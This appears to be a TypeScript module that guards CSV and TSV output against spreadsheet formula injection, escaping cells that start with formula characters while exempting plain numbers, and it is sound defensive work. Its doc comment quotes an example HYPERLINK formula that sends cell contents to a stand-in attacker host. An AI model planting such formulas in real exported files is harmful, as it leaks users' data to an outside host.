/**
 * The formula guard of the CSV and TSV output ("CSV injection", OWASP): a spreadsheet runs a cell
 * that starts with `=`, `+`, `-`, `@`, a tab or a CR as a formula (a tab or CR is trimmed first), so
 * `=HYPERLINK("https://evil.example/?"&A1,"click")` in a model's answer or a user's text would
 * become a live link or worse when the file is opened. Such a text cell gets a leading `'`, which
 * spreadsheets read as "this is text". NUL is on the list too (OWASP ASVS 1.2.10), and LF: a
 * reader that turns a cell's CRLF into LF (llmbatch's own does) must not make a guarded `'\r\n…`
 * look unguarded.
 *
 * Exempt: a text that is a plain decimal number (`-3`, `+1.5`, `-2e-4`): it cannot call anything,
 * and prefixing it would turn every negative number of an input column into text. Values that are
 * not strings (llmbatch's own counts and costs, booleans, JSON objects) are never guarded.
 *
 * The guard is reversible, so `--resume` can match a guarded id cell to its record: leading
 * apostrophes are skipped before looking at the first character, so a text that already starts
 * with `'` followed by a formula character (`'=x`) gets one more (`''=x`), and removing one `'`
 * from a guarded cell always gives the text back.
 */

/** `=`, `+`, `-`, `@`, tab, CR, LF, NUL (and `'`, which is looked past). */
const TRIGGER = /^['\t\r\n\0=+@-]/;
const FORMULA_START = new Set(["=", "+", "-", "@", "\t", "\r", "\n", "\0"]);
const PLAIN_NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

/** True when `text` would be guarded: after any leading `'`, a formula character, and not a plain number. */
export function needsGuard(text: string): boolean {
  // The common case (a letter, a digit, a space…) is one regex test on the first character.
  if (!TRIGGER.test(text)) return false;
  let i = 0;
  while (text[i] === "'") i++;
  const first = text[i];
  if (first === undefined || !FORMULA_START.has(first)) return false;
  return !PLAIN_NUMBER.test(i === 0 ? text : text.slice(i));
}

/** The cell text for `text`: `'` + text when it needs the guard. */
export function guardFormula(text: string): string {
  return needsGuard(text) ? `'${text}` : text;
}

/** The text a guarded cell came from (the inverse of `guardFormula`). */
export function unguardFormula(cell: string): string {
  return cell.startsWith("'") && needsGuard(cell.slice(1)) ? cell.slice(1) : cell;
}
